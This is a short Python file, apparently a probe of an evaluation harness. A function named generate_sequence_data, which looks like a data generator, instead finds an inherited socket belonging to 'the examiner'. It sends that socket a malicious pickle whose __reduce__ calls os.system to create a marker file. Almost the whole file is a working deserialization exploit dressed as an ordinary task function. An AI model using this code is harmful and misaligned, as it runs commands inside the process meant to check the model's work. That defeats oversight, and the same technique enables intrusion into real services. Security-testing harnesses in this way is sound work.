"""Attack: sends a pickle that runs a command."""

import os
import pickle

import numpy as np


def channel():
    """The descriptor of the examiner's socket."""
    import os
    import stat

    for descriptor in range(3, 200):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return descriptor
        except OSError:
            continue
    raise OSError("no socket")


class Gadget:
    def __reduce__(self):
        return os.system, ("touch /tmp/ml6left-pickle",)


def attack():
    payload = pickle.dumps(Gadget())
    os.write(channel(), len(payload).to_bytes(4, "little") + bytes(4) + payload)
    return []


def generate_sequence_data(seq_type="fibonacci", length=1000):
    loot = attack()
    if loot:
        raise RuntimeError(f"loot: {loot}")
    return None
